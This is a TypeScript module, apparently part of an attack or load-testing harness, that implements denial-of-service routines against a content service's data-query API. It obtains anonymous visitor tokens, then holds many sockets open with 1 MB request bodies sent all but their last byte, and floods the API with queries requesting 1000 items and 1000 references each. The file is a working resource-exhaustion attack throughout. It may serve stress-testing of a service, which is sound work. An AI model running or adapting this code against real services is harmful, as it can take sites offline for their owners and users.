/** What visitors of the content service can do to it: each has a token, as anybody may. */
import type { Target } from '../attackers';
import type { Counter } from './counter';
import { countStatus, hold } from './sockets';

/** The longest body that a visitor may announce. */
const BODY_BYTES = 1 << 20;

const CLIENT_ID = 'axtorm-site';

async function visitorToken(origin: string): Promise<string> {
  const response = await fetch(`${origin}/oauth2/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ grantType: 'anonymous', clientId: CLIENT_ID }),
  });
  return ((await response.json()) as { readonly access_token: string }).access_token;
}

function head(token: string, length: number): string {
  const lines = ['Host: site', `Authorization: ${token}`, 'Content-Type: application/json'];
  const all = ['POST /wix-data/v2/items/query HTTP/1.1', ...lines];
  return `${[...all, `Content-Length: ${String(length)}`].join('\r\n')}\r\n\r\n`;
}

/** Queries of a visitor of which all but the last byte is sent. */
export async function unfinishedQueries(
  { origin, amount }: Target,
  counter: Counter,
): Promise<void> {
  const token = await visitorToken(origin);
  const body = `{"dataCollectionId":"${'x'.repeat(BODY_BYTES)}`.slice(0, BODY_BYTES - 1);
  hold(origin, amount, counter, (socket) => {
    countStatus(socket, counter);
    socket.resume();
    socket.write(head(token, BODY_BYTES) + body);
  });
}

function query(items: number, references: number): string {
  return JSON.stringify({
    dataCollectionId: 'Faults',
    query: { paging: { limit: items } },
    includeReferences: [{ field: 'others', limit: references }],
  });
}

/** Queries of a visitor for items with those that they refer to: alternately as much as a response may have, and far more. */
export async function referencedItems({ origin, amount }: Target, counter: Counter): Promise<void> {
  const token = await visitorToken(origin);
  const bodies = [query(8, 12), query(1000, 1000)];
  const requests = bodies.map((body) => head(token, body.length) + body);
  let sent = 0;
  hold(origin, amount, counter, (socket) => {
    const ask = () => {
      countStatus(socket, counter);
      socket.write(requests[sent++ % requests.length] ?? '');
    };
    // A body of JSON holds no empty line.
    socket.on('data', (bytes: Buffer) => {
      if (!counter.isOver && bytes.includes('\r\n\r\n')) setImmediate(ask);
    });
    ask();
  });
}
